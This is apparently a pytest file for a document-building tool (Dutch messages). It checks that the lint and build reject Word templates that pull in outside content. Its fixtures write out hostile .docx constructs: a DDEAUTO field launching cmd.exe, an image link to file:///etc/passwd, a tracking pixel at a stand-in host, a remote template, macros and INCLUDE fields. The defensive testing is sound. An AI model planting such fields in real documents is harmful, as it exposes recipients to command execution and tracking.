"""A Word template that reaches outside itself is refused by the lint and the build, naming the place.

Class: anything Word loads, imports or runs from elsewhere when the document is opened or its fields
are updated — a picture or frame from a path or web address, a remote attached template, macros, an
altChunk, DDE/INCLUDE/LINK fields — would travel in every document made from the template. A hyperlink
to a web or mail address stays allowed: it is only followed when someone clicks it.
"""

from __future__ import annotations

import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import EXAMPLE, word_override
from tests.test_fences import cli

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Parts = dict[str, bytes]


def _rel(parts: Parts, rels: str, kind: str, target: str, *, external: bool = True) -> None:
    mode = ' TargetMode="External"' if external else ""
    xml = parts.get(rels, b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                          b'relationships"></Relationships>').decode()
    parts[rels] = xml.replace("</Relationships>", f'<Relationship Id="rIdX9" Type="{R}/{kind}" Target="{target}"'
                                                  f"{mode}/></Relationships>").encode()


def _in_body(parts: Parts, part: str, xml: str) -> None:
    text = parts[part].decode()
    at = text.index("<w:p>") if "<w:p>" in text else text.index("<w:p ")
    parts[part] = (text[:at] + xml + text[at:]).encode()


def _field(code: str, *, split: bool = True) -> str:
    """A complex field whose code Word wrote in several runs (as it does after editing)."""
    pieces = [code[: len(code) // 2], code[len(code) // 2:]] if split else [code]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
            f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _docm(parts: Parts) -> None:
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 60
    types = parts["[Content_Types].xml"].decode().replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml")
    parts["[Content_Types].xml"] = types.encode()
    _rel(parts, "word/_rels/document.xml.rels", "vbaProject", "vbaProject.bin", external=False)


CASES: dict[str, tuple[Callable[[Parts], None], str]] = {
    "een afbeelding van de schijf": (
        lambda p: _rel(p, "word/_rels/document.xml.rels", "image", "file:///etc/passwd"),
        "haalt in de hoofdtekst (word/document.xml) een afbeelding van buiten het bestand (file:///etc/passwd)"),
    "een trackingpixel in de koptekst": (
        lambda p: _rel(p, "word/_rels/header1.xml.rels", "image", "http://teller.example/p.gif"),
        "haalt in een koptekst (word/header1.xml) een afbeelding van buiten het bestand (http://teller.example/p.gif)"),
    "een sjabloon op afstand": (
        lambda p: _rel(p, "word/_rels/settings.xml.rels", "attachedTemplate", "https://sjablonen.example/x.dotm"),
        "haalt in de instellingen (word/settings.xml) een sjabloon van buiten het bestand"),
    "een koppeling naar een bestand": (
        lambda p: _rel(p, "word/_rels/document.xml.rels", "hyperlink", "file:///C:/geheim.docx"),
        "haalt in de hoofdtekst (word/document.xml) een koppeling van buiten het bestand (file:///C:/geheim.docx)"),
    "altChunk": (
        lambda p: (_rel(p, "word/_rels/document.xml.rels", "aFChunk", "afchunk.mht", external=False),
                   _in_body(p, "word/document.xml", '<w:altChunk r:id="rIdX9"/>')),
        "voegt in de hoofdtekst (word/document.xml) de inhoud van een ander bestand in (altChunk"),
    "macro's (.docm)": (_docm, "is een Word-bestand met macro's (.docm of vbaProject.bin)"),
    "DDEAUTO": (
        lambda p: _in_body(p, "word/document.xml", _field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
        "heeft in de hoofdtekst (word/document.xml) een DDEAUTO-veld"),
    "INCLUDEPICTURE": (
        lambda p: _in_body(p, "word/document.xml",
                           '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "http://teller.example/p.gif" \\d \'>'
                           "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"),
        "heeft in de hoofdtekst (word/document.xml) een INCLUDEPICTURE-veld"),
    "INCLUDETEXT in de voettekst": (
        lambda p: _in_body(p, "word/footer1.xml", _field(' INCLUDETEXT "C:\\\\notities.docx" ', split=False)),
        "heeft in een voettekst (word/footer1.xml) een INCLUDETEXT-veld"),
}


def _hostile_template(folder: Path, change: Callable[[Parts], None]) -> Path:
    docx = word_override(folder, "projectplan")
    with zipfile.ZipFile(docx) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(docx, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return docx


def _dossier(tmp_path: Path) -> Path:
    folder = tmp_path / "inputs" / "x"
    shutil.copytree(EXAMPLE, folder)
    return folder


@pytest.mark.parametrize("case", list(CASES))
def test_a_template_that_reaches_outside_is_refused_by_lint_and_build_with_the_same_message(
    case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    change, expected = CASES[case]
    folder = _dossier(tmp_path)
    _hostile_template(folder, change)
    code, text = cli(capsys, "templates", "check", folder)
    assert code == 1 and expected in text, text
    assert "projectplan.docx" in text and "Traceback" not in text and not re.search(r"<\w+\.\w+ object at 0x", text)
    code, text = cli(capsys, "build", folder, "-o", tmp_path / "build", "--alleen", "docx")
    assert code == 1 and expected in text and "Traceback" not in text, text
    assert not (tmp_path / "build" / "x" / "projectplan.docx").exists()  # nothing made from it


def test_the_build_of_a_refused_template_leaves_no_bundle(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = _dossier(tmp_path)
    _hostile_template(folder, CASES["een trackingpixel in de koptekst"][0])
    code, text = cli(capsys, "build", folder, "-o", tmp_path / "build")
    assert code == 1 and "teller.example" in text
    assert not list((tmp_path / "build").rglob("*.zip"))


def test_web_and_mail_links_stay_and_every_problem_is_listed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A hyperlink to a web or mail address is no finding; a template with several problems gets all of
    them from the lint, each with its place (not only the first)."""
    folder = _dossier(tmp_path)
    _hostile_template(folder, lambda p: (
        _rel(p, "word/_rels/document.xml.rels", "hyperlink", "https://duo.nl/zakelijk"),
        _rel(p, "word/_rels/footer1.xml.rels", "hyperlink", "mailto:info@duo.example"),
    ))
    code, text = cli(capsys, "templates", "check", folder)
    assert "projectplan" not in text, text
    _hostile_template(folder, lambda p: (CASES["DDEAUTO"][0](p), CASES["een trackingpixel in de koptekst"][0](p)))
    code, text = cli(capsys, "templates", "check", folder)
    assert code == 1 and CASES["DDEAUTO"][1] in text and CASES["een trackingpixel in de koptekst"][1] in text
